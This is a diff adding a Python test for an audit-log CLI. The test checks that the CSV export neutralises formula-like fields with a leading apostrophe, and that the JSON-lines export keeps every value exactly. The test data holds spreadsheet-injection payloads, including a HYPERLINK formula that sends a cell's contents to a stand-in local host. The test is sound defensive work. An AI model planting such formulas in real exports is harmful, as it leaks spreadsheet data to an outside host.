@@ -12,6 +12,7 @@ from sqlalchemy import select
 
 from bot.app import Signpost
 from handlers.clock import FakeClock
+from store.audit.log import AuditRecord, append
 from store.people import lead
 from store.tables.audit import AuditEvent
 from tests.bot.cli.conftest import Cli, Run
@@ -123,6 +124,47 @@ async def test_export_filters_by_actor_child_and_time_as_json_lines(busy: Signpo
         ("P002", "search", "answered", AMY),
         ("P002", "code", "answered", ""),
     ]
+
+
+async def test_export_as_csv_never_gives_a_spreadsheet_a_formula(
+    signpost: Signpost, clock: FakeClock, signpost_cli: Cli
+) -> None:
+    """An organisation or authority named in a feed, or an identity a platform sent, that begins
+    like a formula (=, +, -, @) is exported as text a spreadsheet shows, not runs: a leading
+    apostrophe (OWASP's advice on CSV injection). The JSON lines keep every value exactly."""
+    hostile = {
+        "actor_org": '=HYPERLINK("http://127.0.0.1/?"&A1,"open")',
+        "actor_la": "+1+1",
+        "user_id": "@SUM(1,1)",
+        "detail": "-2+3",
+    }
+    record = AuditRecord(
+        at=clock.now(),
+        actor_id="PX01",
+        platform="slack",
+        tenant="T1",
+        channel="direct",
+        action="help",
+        outcome="info",
+        subject_refs=(),
+        result_count=0,
+        correlation_id="c1",
+        actor_role="practitioner",
+        actor_org=hostile["actor_org"],
+        actor_la=hostile["actor_la"],
+        user_id=hostile["user_id"],
+        detail=hostile["detail"],
+    )
+    async with signpost.ctx.db.write() as session:
+        await append(session, [record])
+    run = await signpost_cli.run("audit", "export", "--format", "csv", "--actor", "PX01")
+    assert run.code == 0, run.err
+    [row] = list(csv.DictReader(io.StringIO(run.out)))
+    assert {name: row[name] for name in hostile} == {name: "'" + value for name, value in hostile.items()}
+    assert (row["result_count"], row["tenant"]) == ("0", "T1")  # numbers and plain text as they are
+    run = await signpost_cli.run("audit", "export", "--actor", "PX01")
+    [line] = [json.loads(text) for text in run.out.splitlines()]
+    assert {name: line[name] for name in hostile} == hostile
 
 
 async def test_export_as_csv_has_a_header_and_no_sealed_terms(busy: Signpost, signpost_cli: Cli) -> None:
